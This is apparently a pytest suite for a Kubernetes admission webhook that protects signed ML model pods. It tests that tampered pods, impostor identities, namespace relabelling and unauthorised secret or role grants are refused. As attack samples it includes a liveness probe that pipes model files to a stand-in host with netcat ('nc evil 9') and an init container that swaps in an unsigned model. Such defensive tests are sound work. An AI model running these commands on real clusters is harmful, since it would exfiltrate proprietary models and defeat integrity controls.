"""The security rules of issue 9, tried as the actor who would try each: the whole model pod, the
model's identity, coverage that cannot be switched off from below, and no confused deputy on
SecureModel writes. (The world, its models and helpers are those of test_webhook_decide.)"""

# The world fixtures are imported from test_webhook_decide, so test parameters named like them redefine them.
# ruff: noqa: F811

from __future__ import annotations

import copy
from typing import Any

import pytest
import yaml

from samd.spec import parse_secure_model
from samd.webhook.access import SECRET_REFERENCES, required_permissions
from samd.webhook.state import Kind
from tests.support.cluster import REPO
from tests.unit.test_webhook_decide import (  # noqa: F401 - fraud, churn and world are fixtures
    NAMESPACE,
    PROTECTED,
    World,
    assert_denied,
    churn,
    container,
    fraud,
    namespace,
    plain_pod,
    review,
    tampered,
    trust_policy,
    world,
)

pytestmark = pytest.mark.unit

CUSTOM_IMAGE = "registry.example.com/ml/server@sha256:" + "a" * 64


# --- the whole pod ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("change", "fragment"),
    [
        (
            lambda spec: container_of(spec, "server").update(image="evil/server:1"),
            "runs image 'evil/server:1'",
        ),
        (
            lambda spec: spec["containers"].append(
                {
                    "name": "sidecar",
                    "image": "samd:0.1.0",
                    "volumeMounts": [
                        {"name": "model", "mountPath": "/m", "readOnly": True},
                        {"name": "tls", "mountPath": "/t", "readOnly": True},
                    ],
                    "securityContext": copy.deepcopy(container_of(spec, "server")["securityContext"]),
                }
            ),
            "its containers are ['server', 'sidecar']",
        ),
        (
            lambda spec: spec["initContainers"].append(
                {
                    "name": "swap",
                    "image": "samd:0.1.0",
                    "command": ["cp", "/unsigned/model.onnx", "/models/model.onnx"],
                    "volumeMounts": [{"name": "model", "mountPath": "/models"}],
                    "securityContext": copy.deepcopy(container_of(spec, "samd-fetch")["securityContext"]),
                }
            ),
            "its init containers are ['samd-fetch', 'swap']",
        ),
        (
            lambda spec: container_of(spec, "server").update(
                livenessProbe={"exec": {"command": ["sh", "-c", "cat /models/* | nc evil 9"]}}
            ),
            "container server livenessProbe is set",
        ),
        (
            lambda spec: container_of(spec, "server").update(
                lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "true"]}}}
            ),
            "container server lifecycle is set",
        ),
        (lambda spec: container_of(spec, "server").update(args=["--no-tls"]), "container server args is set"),
        (lambda spec: spec.update(automountServiceAccountToken=True), "automountServiceAccountToken is True"),
        (
            lambda spec: spec["volumes"].append(
                {
                    "name": "token",
                    "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]},
                }
            ),
            "volume token is not one the operator adds",
        ),
        (lambda spec: spec.update(serviceAccountName="default"), "serviceAccountName is 'default'"),
        (lambda spec: spec.update(shareProcessNamespace=True), "shareProcessNamespace is set"),
        (
            lambda spec: next(v for v in spec["volumes"] if v["name"] == "model").update(emptyDir={}),
            "volume model is {'name': 'model', 'emptyDir': {}}, the operator sets",
        ),
        (lambda spec: spec.update(runtimeClassName="unconfined"), "runtimeClassName is set"),
    ],
    ids=[
        "server-image",
        "sidecar-mounting-model-and-tls",
        "second-init-container-writing-the-model",
        "exec-probe",
        "lifecycle-hook",
        "server-args",
        "token-automount",
        "projected-token",
        "other-service-account",
        "shared-process-namespace",
        "model-volume-on-disk",
        "runtime-class",
    ],
)
async def test_a_model_pod_that_is_not_the_operators_pod_is_refused(
    world: World, change: Any, fragment: str
) -> None:
    pod = world.pod()
    change(pod["spec"])

    decision = await world.decide(review(pod))

    assert decision.allowed is False, decision
    assert fragment in decision.message, decision.message
    assert "is not the pod the operator builds for SecureModel fraud" in decision.message


def container_of(spec: dict[str, Any], name: str) -> dict[str, Any]:
    return container({"spec": spec}, name)


async def test_the_operators_pod_as_the_api_server_returns_it_is_admitted(world: World) -> None:
    # Defaults the API server fills in, and where and how long the pod runs, do not change what it runs.
    pod = world.pod()
    spec = pod["spec"]
    spec.update(
        serviceAccount=spec["serviceAccountName"],
        nodeName="node-1",
        nodeSelector={"disk": "ssd"},
        tolerations=[{"key": "gpu", "operator": "Exists"}],
        dnsPolicy="ClusterFirst",
        restartPolicy="Always",
        schedulerName="default-scheduler",
        terminationGracePeriodSeconds=30,
        priority=0,
    )
    for volume in spec["volumes"]:
        if "configMap" in volume:
            volume["configMap"]["defaultMode"] = 420
    for item in [*spec["initContainers"], *spec["containers"]]:
        item.update(imagePullPolicy="IfNotPresent", terminationMessagePath="/dev/termination-log")
        item.update(terminationMessagePolicy="File", resources={"limits": {"memory": "1Gi"}})
        for port in item.get("ports", []):
            port["protocol"] = "TCP"
        if "readinessProbe" in item:
            item["readinessProbe"].update(
                timeoutSeconds=1, periodSeconds=10, successThreshold=1, failureThreshold=3
            )

    decision = await world.decide(review(pod))

    assert decision.allowed is True, decision


async def test_a_debug_container_may_join_a_model_pod_but_not_its_volumes_or_processes(world: World) -> None:
    old = world.pod()
    hardened = copy.deepcopy(container(old, "server")["securityContext"])
    debugger = {"name": "debugger", "image": "busybox", "securityContext": hardened}

    def with_ephemeral(**fields: Any) -> dict[str, Any]:
        new = copy.deepcopy(old)
        new["spec"]["ephemeralContainers"] = [{**debugger, **fields}]
        return new

    async def decide(new: dict[str, Any]) -> Any:
        return await world.decide(
            review(new, operation="UPDATE", old=old, sub_resource="ephemeralcontainers")
        )

    plain = await decide(with_ephemeral())
    mounting = await decide(
        with_ephemeral(volumeMounts=[{"name": "model", "mountPath": "/m", "readOnly": True}])
    )
    joining = await decide(with_ephemeral(targetContainerName="server"))

    assert plain.allowed is True, plain
    assert_denied(mounting, "PodAltered", "ephemeral container debugger mounts the pod's volumes")
    assert_denied(joining, "PodAltered", "joins container server's processes")


async def test_a_model_that_is_not_served_admits_no_pod(world: World) -> None:
    pod = world.pod()
    world.model["spec"]["serving"]["enabled"] = False

    decision = await world.decide(review(pod))

    assert_denied(decision, "PodAltered", "SecureModel fraud is not served")


async def test_a_serving_image_the_model_names_is_the_one_compared(world: World) -> None:
    world.policies[0]["spec"]["allowedImages"] = ["registry.example.com/ml"]
    world.model["spec"]["serving"]["image"] = CUSTOM_IMAGE
    pod = world.pod()  # built from the model as it is now
    samd_server = copy.deepcopy(pod)
    # The model's image runs as `model-server`, behind the `samd proxy` container `server`.
    container(samd_server, "model-server")["image"] = "samd:0.1.0"

    assert (await world.decide(review(pod))).allowed is True
    assert_denied(await world.decide(review(samd_server)), "PodAltered", "runs image 'samd:0.1.0'")


# --- the model's identity --------------------------------------------------------------------------------------


async def test_a_pod_carrying_a_models_selector_label_is_refused(world: World) -> None:
    decoy = plain_pod()
    decoy["metadata"]["labels"] = {"samd.dev/model": "fraud"}

    decision = await world.decide(review(decoy))

    assert_denied(decision, "BypassAttempt", "carries the label samd.dev/model=fraud", "remove the label")


async def test_relabelling_a_running_pod_into_a_models_selector_is_refused(world: World) -> None:
    old = plain_pod()
    new = copy.deepcopy(old)
    new["metadata"]["labels"] = {"samd.dev/model": "fraud"}

    decision = await world.decide(review(new, operation="UPDATE", old=old))

    assert_denied(decision, "BypassAttempt", "carries the label samd.dev/model=fraud")


async def test_a_model_pod_labelled_as_another_model_is_refused(world: World) -> None:
    pod = world.pod()
    pod["metadata"]["labels"]["samd.dev/model"] = "churn"

    decision = await world.decide(review(pod))

    assert_denied(decision, "BypassAttempt", "carries the label samd.dev/model=churn")


async def test_a_pod_running_as_a_models_service_account_is_refused(world: World) -> None:
    impostor = plain_pod(serviceAccountName="fraud-model", automountServiceAccountToken=True)

    decision = await world.decide(review(impostor))

    assert_denied(
        decision, "BypassAttempt", "runs as ServiceAccount fraud-model, the identity of SecureModel fraud"
    )


# --- coverage cannot be switched off from below ----------------------------------------------------------------


async def test_a_namespace_holding_models_but_no_policy_refuses_their_pods(world: World) -> None:
    world.namespaces[0]["metadata"]["labels"] = {}  # relabelled out of the policy
    bypass = plain_pod(volumes=[{"name": "k", "secret": {"secretName": "fraud-keyset"}}])

    model_pod = await world.decide(review(world.pod()))
    key_reader = await world.decide(review(bypass))

    assert_denied(model_pod, "NoTrustPolicy", f"no ModelTrustPolicy covers namespace {NAMESPACE}")
    assert_denied(key_reader, "BypassAttempt", "the key Secret of SecureModel fraud")


def _namespace_update(
    labels_before: dict[str, str], labels_after: dict[str, str], name: str = NAMESPACE
) -> Any:
    return review(
        namespace(name, labels_after) | {"apiVersion": "v1", "kind": "Namespace"},
        kind="Namespace",
        operation="UPDATE",
        old=namespace(name, labels_before) | {"apiVersion": "v1", "kind": "Namespace"},
        namespace_name="",
    ).model_copy(update={"name": name})


async def test_relabelling_a_namespace_with_models_out_of_its_policy_is_refused(world: World) -> None:
    removed = await world.decide(_namespace_update(PROTECTED, {}))
    unrelated = await world.decide(_namespace_update(PROTECTED, {**PROTECTED, "team": "fraud"}))
    empty_namespace = await world.decide(_namespace_update(PROTECTED, {}, name="sandbox"))

    assert_denied(
        removed, "CoverageRemoved", "holds SecureModels (churn, fraud)", "ModelTrustPolicy production"
    )
    assert unrelated.allowed is True, unrelated
    assert empty_namespace.allowed is True, empty_namespace


# --- no confused deputy ------------------------------------------------------------------------------------------


def _model_request(world: World, operation: str = "CREATE", **spec_changes: Any) -> Any:
    old = copy.deepcopy(world.model)
    new = copy.deepcopy(world.model)
    new["spec"].update(spec_changes)
    return review(new, operation=operation, old=old if operation == "UPDATE" else None)


async def test_a_model_naming_a_key_secret_its_author_may_not_read_is_refused(world: World) -> None:
    world.denied = {"get secrets fraud-keyset"}

    decision = await world.decide(_model_request(world))

    assert_denied(
        decision,
        "NotPermitted",
        "spec.encryption.keyRef.secretName names Secret fraud-keyset",
        "user alice may not get secrets fraud-keyset",
    )
    assert ("alice", "get secrets fraud-keyset") in world.questions


async def test_storage_credentials_its_author_may_not_read_are_refused(world: World) -> None:
    world.denied = {"get secrets s3-creds"}
    artifact = {**world.model["spec"]["artifact"], "credentialsSecret": "s3-creds"}

    decision = await world.decide(_model_request(world, artifact=artifact))

    assert_denied(decision, "NotPermitted", "spec.artifact.credentialsSecret names Secret s3-creds")


async def test_a_deployer_may_raise_the_version_without_reading_the_key(world: World) -> None:
    world.denied = {"get secrets fraud-keyset"}

    decision = await world.decide(_model_request(world, "UPDATE", version="1.3.0"))

    assert decision.allowed is True, decision
    assert world.questions == []  # nothing new is named, so nothing is asked


async def test_granting_access_needs_the_right_to_bind_the_models_role(world: World) -> None:
    access = {"deployers": [{"kind": "User", "name": "mallory"}]}
    world.denied = {"bind roles samd-fraud-detection-deployer", "bind roles samd-fraud-deployer"}
    world.denied |= {"update securemodels fraud"}  # and does not already hold the Role's permissions

    refused = await world.decide(_model_request(world, "UPDATE", access=access))
    world.denied = {"update securemodels fraud"}
    may_bind = await world.decide(_model_request(world, "UPDATE", access=access))

    assert_denied(
        refused,
        "NotPermitted",
        "spec.access grants deployer to User mallory",
        "bind roles samd-fraud-deployer",
    )
    assert may_bind.allowed is True, may_bind


async def test_granting_a_role_one_already_holds_needs_no_bind_right(world: World) -> None:
    world.denied = {"bind roles samd-fraud-reviewer"}
    access = {"reviewers": [{"kind": "User", "name": "bob"}]}

    decision = await world.decide(_model_request(world, "UPDATE", access=access))

    assert decision.allowed is True, decision


async def test_a_failed_permission_check_refuses_even_under_a_warn_policy(world: World) -> None:
    world.policies[0]["spec"]["mode"] = "warn"
    world.access_error = ConnectionError("API server unreachable")

    decision = await world.decide(_model_request(world))

    assert_denied(decision, "NotPermitted", "could not check", "API server unreachable")


async def test_permission_checks_apply_where_no_policy_covers(world: World) -> None:
    world.denied = {"get secrets fraud-keyset"}
    # Storage URIs, not the local files of the other tests: no policy allows local files here.
    request = _model_request(
        world, artifact={"uri": "s3://models/fraud.samd"}, signature={"uri": "s3://models/fraud.sig"}
    )
    request = request.model_copy(update={"namespace": "sandbox"})

    decision = await world.decide(request)

    assert_denied(decision, "NotPermitted", "names Secret fraud-keyset")


@pytest.mark.parametrize(
    ("subject", "allowed"),
    [
        ({"kind": "Group", "name": "system:authenticated"}, False),
        ({"kind": "Group", "name": "system:unauthenticated"}, False),
        ({"kind": "Group", "name": "system:serviceaccounts"}, False),
        ({"kind": "Group", "name": "system:serviceaccounts:ml"}, False),
        ({"kind": "User", "name": "system:anonymous"}, False),
        ({"kind": "Group", "name": "fraud-team"}, True),
    ],
)
async def test_granting_access_to_everyone_is_refused_unless_the_policy_allows_it(
    world: World, subject: dict[str, str], allowed: bool
) -> None:
    decision = await world.decide(_model_request(world, "UPDATE", access={"reviewers": [subject]}))
    world.policies[0]["spec"]["allowedBroadGroups"] = [subject["name"]]
    listed = await world.decide(_model_request(world, "UPDATE", access={"reviewers": [subject]}))

    assert decision.allowed is allowed, decision
    if not allowed:
        assert f"does not allow granting access to {subject['kind']} {subject['name']}" in decision.message
    assert listed.allowed is True, listed


@pytest.mark.parametrize(
    ("allowed_images", "image", "fragment"),
    [
        ([], CUSTOM_IMAGE, "allowed repositories: none"),
        (["registry.example.com/other"], CUSTOM_IMAGE, "does not allow the serving image"),
        (["registry.example.com/ml"], "registry.example.com/ml/server:1.0", "pinned by digest"),
        (
            ["registry.example.com/ml"],
            "registry.example.com/ml-evil/server@sha256:" + "a" * 64,
            "does not allow",
        ),
        (["registry.example.com/ml"], CUSTOM_IMAGE, None),
        (["registry.example.com/ml/"], CUSTOM_IMAGE, None),
    ],
)
async def test_a_serving_image_must_come_from_a_listed_repository_pinned_by_digest(
    world: World, allowed_images: list[str], image: str, fragment: str | None
) -> None:
    world.policies[0]["spec"]["allowedImages"] = allowed_images
    serving = {**world.model["spec"]["serving"], "image": image}

    decision = await world.decide(_model_request(world, "UPDATE", serving=serving))

    if fragment is None:
        assert decision.allowed is True, decision
    else:
        assert_denied(decision, "PolicyViolation", fragment)


async def test_an_unpinned_image_is_only_a_warning_under_a_warn_policy(world: World) -> None:
    world.policies[0]["spec"].update(mode="warn", allowedImages=["registry.example.com/ml"])
    serving = {**world.model["spec"]["serving"], "image": "registry.example.com/ml/server:1.0"}

    decision = await world.decide(_model_request(world, "UPDATE", serving=serving))

    assert decision.allowed is True
    assert any("pinned by digest" in warning for warning in decision.warnings)


def test_only_what_a_write_adds_is_asked() -> None:
    base = {
        "format": "onnx",
        "version": "1.0.0",
        "owner": "fraud-team",
        "artifact": {"uri": "s3://models/fraud", "credentialsSecret": "s3-creds"},
        "signature": {"uri": "s3://models/fraud.sig"},
        "encryption": {"keyRef": {"provider": "local", "secretName": "fraud-keyset"}},
        "access": {"deployers": [{"kind": "Group", "name": "ml-ops"}]},
    }
    old = parse_secure_model(base)
    same = parse_secure_model({**base, "version": "1.1.0"})
    new_key = parse_secure_model(
        {**base, "encryption": {"keyRef": {"provider": "local", "secretName": "other"}}}
    )
    more = parse_secure_model(
        {
            **base,
            "access": {"deployers": [{"kind": "Group", "name": "ml-ops"}, {"kind": "User", "name": "eve"}]},
        }
    )

    assert required_permissions(NAMESPACE, "fraud", same, old) == []
    assert [r.field for r in required_permissions(NAMESPACE, "fraud", new_key, old)] == [
        "spec.encryption.keyRef.secretName names Secret other"
    ]
    assert [r.field for r in required_permissions(NAMESPACE, "fraud", more, old)] == [
        "spec.access grants deployer to User eve"
    ]
    assert [r.field for r in required_permissions(NAMESPACE, "fraud", old, None)] == [
        "spec.encryption.keyRef.secretName names Secret fraud-keyset",
        "spec.artifact.credentialsSecret names Secret s3-creds",
        "spec.access grants deployer to Group ml-ops",
    ]


async def test_an_in_place_update_of_a_model_pods_server_image_is_refused(world: World) -> None:
    old = world.pod()
    new = copy.deepcopy(old)
    container(new, "server")["image"] = "attacker/server:2"

    decision = await world.decide(review(new, operation="UPDATE", old=old))

    assert_denied(decision, "PodAltered", "container server runs image 'attacker/server:2'")


def _schema_paths(schema: dict[str, Any], path: str = "") -> list[str]:
    found = [path] if path else []
    for name, child in (schema.get("properties") or {}).items():
        found += _schema_paths(child, f"{path}.{name}" if path else name)
    if isinstance(schema.get("items"), dict):
        found += _schema_paths(schema["items"], path + "[]")
    return found


def test_every_secret_a_securemodel_can_name_is_checked_against_its_author() -> None:
    crd = yaml.safe_load((REPO / "crds" / "securemodels.samd.dev.yaml").read_text())
    [version] = crd["spec"]["versions"]
    paths = _schema_paths(version["schema"]["openAPIV3Schema"])
    naming_secrets = {
        p for p in paths if "secret" in p.rsplit(".", 1)[-1].lower() and not p.startswith("status")
    }

    assert naming_secrets == {path for path, _ in SECRET_REFERENCES}


async def test_the_same_pod_is_admitted_again_only_while_nothing_watched_changes(world: World) -> None:
    decider = world.decider()
    pod = world.pod()
    assert (await decider.decide(review(pod))).allowed
    checks = world.cache.stats.hits + world.cache.stats.misses

    again = await decider.decide(review(copy.deepcopy(pod)))

    assert again.allowed is True
    assert world.cache.stats.hits + world.cache.stats.misses == checks  # answered from the admission
    # The operator's signature ConfigMap is tampered with: the next identical pod is checked again.
    stored = next(c for c in world.config_maps if c["metadata"]["name"] == "fraud-signature")
    tampered_map = copy.deepcopy(stored)
    tampered_map["data"]["bundle.json"] = tampered(world.fraud.signature.read_bytes()).decode()
    decider.state.apply(Kind.SIGNATURES, "MODIFIED", tampered_map)

    refused = await decider.decide(review(copy.deepcopy(pod)))

    assert_denied(refused, "SignatureInvalid", "does not verify")


async def test_the_protected_label_stays_while_the_namespace_holds_models(world: World) -> None:
    """The label that sends a namespace's pods to the webhook cannot be removed from below."""
    world.policies = [
        trust_policy(
            "production", world.fraud.public_key_pem, selector={"matchLabels": {"samd.dev/trust": "x"}}
        )
    ]
    labels = {**PROTECTED, "samd.dev/trust": "x"}

    removed = await world.decide(_namespace_update(labels, {"samd.dev/trust": "x"}))
    changed = await world.decide(_namespace_update(labels, {**labels, "samd.dev/protected": "no"}))
    kept = await world.decide(_namespace_update(labels, {**labels, "team": "fraud"}))

    for decision in (removed, changed):
        assert_denied(
            decision,
            "CoverageRemoved",
            f"namespace {NAMESPACE} is protected by SAMD because it holds SecureModels (churn, fraud)",
            "samd.dev/protected=true",
        )
    assert kept.allowed is True, kept


async def test_the_protected_label_stays_while_a_policy_selects_the_namespace(world: World) -> None:
    world.policies.append(
        trust_policy("team", world.fraud.public_key_pem, selector={"matchLabels": {"team": "fraud"}})
    )
    labels = {**PROTECTED, "team": "fraud"}

    still_selected = await world.decide(_namespace_update(labels, {"team": "fraud"}, name="sandbox"))
    nothing_left = await world.decide(_namespace_update(labels, {}, name="sandbox"))

    assert_denied(
        still_selected,
        "CoverageRemoved",
        "namespace sandbox is protected by SAMD because ModelTrustPolicy team",
    )
    assert nothing_left.allowed is True, nothing_left  # what the operator does once nothing selects it
